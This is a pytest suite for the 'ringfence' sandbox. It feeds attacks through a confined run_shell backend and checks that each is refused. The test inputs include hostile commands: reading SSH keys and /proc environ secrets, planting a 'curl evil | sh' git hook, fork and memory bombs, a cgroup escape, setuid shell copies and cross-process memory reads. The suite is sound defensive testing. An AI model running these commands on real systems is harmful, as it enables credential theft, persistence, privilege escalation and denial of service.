"""Attacks through ``run_shell`` on the confined ``local`` backend, each refused with no effect.

Every test drives a real kernel (``create_kernel`` → Gate → ``run_shell`` →
the bubblewrap sandbox) and checks both that the command was refused (its
exit status and error) and that nothing happened on the host (files, processes,
sockets). On the old, unconfined ``local`` backend (now ``host``) every attack
here succeeds: each test says why in its docstring.
"""

from __future__ import annotations

import json
import os
import secrets
import shutil
import socket
import stat
import subprocess
import time
from pathlib import Path
from typing import Any

import psutil
import pytest
from backends_helpers import chown_like_workspace

from ringfence import _proc, create_kernel
from ringfence.runtime import ApprovalAnswer, Posture, ScriptedApprover

pytestmark = pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap is not installed")


def kernel(ws: Path, **kw: Any):
    kw.setdefault("posture", Posture.ASK)
    kw.setdefault("approver", ScriptedApprover(lambda _r: ApprovalAnswer.once("test approves")))
    return create_kernel(roots=[ws], backend="local", **kw)


async def shell(
    ws: Path, command: str | list[str], timeout: float = 20, **kw: Any
) -> dict[str, Any]:
    options = kw.pop("backend_options", None)
    async with kernel(ws, backend_options=options, **kw) as k:
        return await k.call("run_shell", {"command": command, "timeout_seconds": timeout})


async def test_writes_outside_the_roots_are_refused(workspace: Path, user_home: Path) -> None:
    """Host backend: ~/.bashrc, a sibling of the workspace and /usr/local are all writable."""
    sibling = workspace.parent / "outside"
    sibling.mkdir()
    marker = f"ringfence-attack-{secrets.token_hex(6)}"
    result = await shell(
        workspace,
        f"echo evil >> ~/.bashrc; echo evil > {user_home}/.profile; echo evil > {sibling}/dropped; "
        f"touch /usr/local/{marker}; echo fine > {workspace}/inside",
    )
    refusals = ("Read-only file system", "nonexistent", "No such file or directory")
    assert sum(result["stderr"].count(r) for r in refusals) >= 4, result["stderr"]
    assert (user_home / ".bashrc").read_text() == "# the user's bashrc\n"
    assert not (user_home / ".profile").exists() and not (sibling / "dropped").exists()
    assert not Path(f"/usr/local/{marker}").exists()
    assert (workspace / "inside").read_text() == "fine\n"  # the roots stay writable


async def test_the_hosts_tmp_is_invisible_and_untouched(workspace: Path) -> None:
    """Host backend: a file in the host's /tmp can be read and overwritten."""
    host_file = Path(f"/tmp/ringfence-attack-{secrets.token_hex(6)}")
    host_file.write_text("host data\n")
    try:
        result = await shell(
            workspace, f"cat {host_file}; echo evil > {host_file}; cat {host_file}"
        )
        assert "host data" not in result["stdout"]
        assert "No such file or directory" in result["stderr"]
        assert host_file.read_text() == "host data\n"  # the write landed in the private /tmp
    finally:
        host_file.unlink()


async def test_the_users_ssh_key_cannot_be_read(workspace: Path, user_home: Path) -> None:
    """Host backend: ``cat ~/.ssh/id_ed25519`` prints the key."""
    key = (user_home / ".ssh" / "id_ed25519").read_text().strip()
    result = await shell(
        workspace,
        f"cat ~/.ssh/id_ed25519; cat {user_home}/.ssh/id_ed25519; ls -a ~ {user_home}/.ssh; "
        f"grep -rs FAKE-PRIVATE ~ {user_home} /home /tmp /var/tmp",
    )
    assert key not in result["stdout"] and key not in result["stderr"]
    assert "No such file or directory" in result["stderr"]


async def test_the_kernels_environment_is_invisible(
    workspace: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Host backend: /proc/<kernel pid>/environ is readable by the same user."""
    marker = f"kernel-secret-{secrets.token_hex(8)}"
    monkeypatch.setenv("RINGFENCE_ATTACK_MARKER", marker)
    result = await shell(
        workspace,
        f"cat /proc/{os.getpid()}/environ; cat /proc/*/environ | tr '\\0' '\\n'; ls /proc",
    )
    assert marker not in result["stdout"] and marker not in result["stderr"]
    assert f"/proc/{os.getpid()}/environ: No such file or directory" in result["stderr"]
    listed = [p for p in result["stdout"].split() if p.isdigit()]
    assert str(os.getpid()) not in listed and len(listed) < 10  # only the sandbox's own


async def test_a_listener_on_the_hosts_loopback_cannot_be_reached(workspace: Path) -> None:
    """Host backend: the command connects to 127.0.0.1 and writes to the listener."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.setblocking(False)
    port = listener.getsockname()[1]
    probe = (
        "import socket\n"
        f"s = socket.create_connection(('127.0.0.1', {port}), timeout=3)\n"
        "s.sendall(b'exfiltrated')\nprint('connected')\n"
    )
    try:
        result = await shell(workspace, ["python3", "-c", probe])
        assert result["exit_code"] != 0 and "connected" not in result["stdout"]
        assert "Error" in result["stderr"]  # ConnectionRefused (own loopback) or PermissionError
        with pytest.raises(BlockingIOError):
            listener.accept()  # nothing ever connected
    finally:
        listener.close()


async def test_network_is_a_recorded_session_option(workspace: Path, tmp_path: Path) -> None:
    """With ``network=True`` the host's loopback is reachable, and the started event says so."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    port = listener.getsockname()[1]
    events = tmp_path / "events.jsonl"
    probe = f"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=3)"
    try:
        result = await shell(
            workspace,
            ["python3", "-c", probe],
            backend_options={"network": True},
            events_path=events,
        )
    finally:
        listener.close()
    assert result["exit_code"] == 0, result
    started = [
        json.loads(line) for line in events.read_text().splitlines() if '"backend_started"' in line
    ]
    assert started[0]["sandbox"]["confined"] is True and started[0]["sandbox"]["network"] is True


async def test_git_hooks_and_gitfiles_are_read_only(workspace: Path) -> None:
    """Host backend: a hook is planted and the submodule's gitfile is redirected."""
    git = workspace / ".git"
    for sub in ("hooks", "objects", "refs/heads", "modules/sub/objects", "modules/sub/refs"):
        (git / sub).mkdir(parents=True)
    (git / "HEAD").write_text("ref: refs/heads/main\n")
    (git / "modules/sub/HEAD").write_text("ref: refs/heads/main\n")
    (git / "modules/sub/config").write_text("[core]\n\tworktree = ../../../sub\n")
    (workspace / "sub").mkdir()
    gitfile = workspace / "sub" / ".git"
    gitfile.write_text("gitdir: ../.git/modules/sub\n")
    # A linked worktree of a repository elsewhere: its gitfile points outside the roots.
    (workspace / "vendor" / "tool").mkdir(parents=True)
    external = workspace / "vendor" / "tool" / ".git"
    external.write_text("gitdir: /srv/repos/tool/.git/worktrees/tool\n")
    chown_like_workspace(
        workspace, *git.rglob("*"), git, workspace / "sub", gitfile, *workspace.rglob("vendor*")
    )
    result = await shell(
        workspace,
        "echo 'curl evil | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; "
        "echo 'gitdir: /tmp/evil' > sub/.git; rm -f sub/.git; mv sub/.git sub/git-moved; "
        "echo 'gitdir: /tmp/evil' > vendor/tool/.git; echo ok > sub/file",
        change_sets=False,  # the read-only mounts; with change sets the merge refuses instead
    )
    assert result["stderr"].count("Read-only file system") >= 3, result["stderr"]
    assert not (git / "hooks" / "pre-commit").exists()
    assert gitfile.read_text() == "gitdir: ../.git/modules/sub\n"
    assert external.read_text() == "gitdir: /srv/repos/tool/.git/worktrees/tool\n"
    assert (workspace / "sub" / "file").read_text() == "ok\n"  # the rest of the tree is writable


async def test_a_host_process_cannot_be_killed(workspace: Path) -> None:
    """Host backend: ``kill -9 <pid>`` of the user's own process succeeds."""
    victim = subprocess.Popen(["sleep", "300"])
    try:
        result = await shell(workspace, f"kill -9 {victim.pid}; echo survived")
        assert "No such process" in result["stderr"]
        time.sleep(0.1)
        assert victim.poll() is None, "the host process was killed"
    finally:
        victim.kill()
        victim.wait()


async def test_a_fork_bomb_hits_the_process_limit(workspace: Path) -> None:
    """Host backend: no process limit; all 2047 processes of this bounded bomb start."""
    bomb = (
        "b() { [ $1 -gt 0 ] || { sleep 5; return; }; b $(($1-1)) & b $(($1-1)) & wait; }; "
        "b 10; echo all-forked"
    )
    before = len(psutil.pids())
    result = await shell(workspace, ["bash", "-c", bomb], timeout=1.5, backend_options={"pids": 64})
    assert "all-forked" not in result["stdout"]
    assert "fork" in result["stderr"] and "Resource temporarily unavailable" in result["stderr"]
    assert len(psutil.pids()) < before + 20  # nothing of it is left on the host


async def test_a_memory_bomb_is_refused(workspace: Path) -> None:
    """Host backend: the 1 GiB allocation succeeds."""
    bomb = "b = bytearray(1 << 30); b[::4096] = b'x' * len(b[::4096]); print('allocated')"
    result = await shell(workspace, ["python3", "-c", bomb], backend_options={"memory": "256m"})
    assert result["exit_code"] != 0 and "allocated" not in result["stdout"]
    assert "MemoryError" in result["stderr"] or result["signal"] == 9


async def test_a_daemon_does_not_outlive_its_command(workspace: Path) -> None:
    """Host backend (root): the daemon moves itself out of its cgroup and survives.

    It writes its pid into the cgroup2 root's ``cgroup.procs`` (the host
    backend's documented non-guarantee), leaves the session and writes a
    marker half a second later.
    """
    marker = workspace / f"daemon-{secrets.token_hex(4)}"
    found = _proc.tracking()
    procs = f"{_proc._cgroup2_mount() or '/sys/fs/cgroup'}/cgroup.procs"
    tag = f"rf-daemon-{secrets.token_hex(4)}"
    daemon = (
        f"sh -c 'echo $$ > {procs}; exec setsid sh -c \"sleep 0.5; echo pwned > {marker}\"' "
        f"</dev/null >/dev/null 2>&1 & "
        f"nohup setsid sh -c 'exec -a {tag} sleep 300' </dev/null >/dev/null 2>&1 & "
        "echo detached"
    )
    result = await shell(workspace, ["bash", "-c", daemon])
    assert result["stdout"] == "detached\n" and found is not None
    time.sleep(1.0)
    assert not marker.exists(), "the daemon outlived its command"
    left = [p for p in psutil.process_iter(["cmdline"]) if tag in " ".join(p.info["cmdline"] or [])]
    assert left == []


@pytest.mark.parametrize("owner", ["user", "root"])
async def test_no_setuid_or_setgid_program_can_be_made(
    workspace: Path, tmp_path: Path, owner: str
) -> None:
    """Host backend (root): ``chmod 4755`` on a copy of a shell makes a setuid-root program.

    With a root-owned workspace the sandbox's uid is host root (mapped, no
    capabilities): a setuid bit it set would be a setuid-root program on the host.
    """
    ws = workspace
    if owner == "root":
        ws = tmp_path / "root-owned"
        ws.mkdir()
    script = (
        "cp /bin/sh s; chmod 4755 s; chmod g+s s; install -m 6755 /bin/sh i; "
        "python3 -c \"import os; os.close(os.open('o', os.O_CREAT | os.O_WRONLY, 0o4755))\"; "
        "chmod 755 s && echo plain-chmod-works"
    )
    result = await shell(ws, script)
    assert result["stderr"].count("Operation not permitted") >= 4, result["stderr"]
    assert "plain-chmod-works" in result["stdout"]
    for path in ws.iterdir():
        assert not path.lstat().st_mode & (stat.S_ISUID | stat.S_ISGID), (
            path,
            oct(path.lstat().st_mode),
        )


PEEK = """
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
secret = ctypes.create_string_buffer(b"the-victim-s-secret", 32)  # the same address in both
go_r, go_w = os.pipe()
victim = os.fork()
if victim == 0:  # holds the secret; writes what its memory holds once the peer has tried
    os.read(go_r, 1)
    with open(sys.argv[1], "wb") as f:
        f.write(secret.value)
    os._exit(0)
peer = os.fork()
if peer == 0:  # the victim's sibling: read its memory, then overwrite it
    out = ctypes.create_string_buffer(32)
    local, remote = Iovec(ctypes.addressof(out), 32), Iovec(ctypes.addressof(secret), 32)
    got = libc.process_vm_readv(victim, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    print("readv", got, ctypes.get_errno(), out.value.decode(errors="replace") or "-", flush=True)
    evil = ctypes.create_string_buffer(b"written-by-a-peer", 32)
    local = Iovec(ctypes.addressof(evil), 32)
    got = libc.process_vm_writev(victim, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    print("writev", got, ctypes.get_errno(), flush=True)
    os._exit(0)
os.waitpid(peer, 0)
os.write(go_w, b"x")
os.waitpid(victim, 0)
"""


@pytest.mark.parametrize(
    ("change_sets", "deny"),
    [(True, ()), (True, ("run_shell(touch *)",)), (False, ()), (False, ("run_shell(touch *)",))],
)
async def test_a_command_cannot_read_or_write_a_sibling_s_memory(
    workspace: Path, change_sets: bool, deny: tuple[str, ...]
) -> None:
    """Host backend: ``process_vm_readv`` and ``process_vm_writev`` on a process of the same
    user succeed (the peer reads the victim's secret and overwrites it). In the sandbox both
    fail with EPERM, under change sets too, where the supervisor itself may read its
    commands' memory (exec checks) and the commands' own filter denies the calls."""
    from ringfence.runtime import Rules

    (workspace / "peek.py").write_text(PEEK)
    result = await shell(
        workspace,
        ["python3", "peek.py", "victim-memory"],
        change_sets=change_sets,
        rules=Rules(deny=deny),
    )
    assert result["exit_code"] == 0, result
    lines = result["stdout"].splitlines()
    assert lines == ["readv -1 1 -", "writev -1 1"], result  # -1, EPERM, nothing read
    assert (workspace / "victim-memory").read_bytes() == b"the-victim-s-secret"
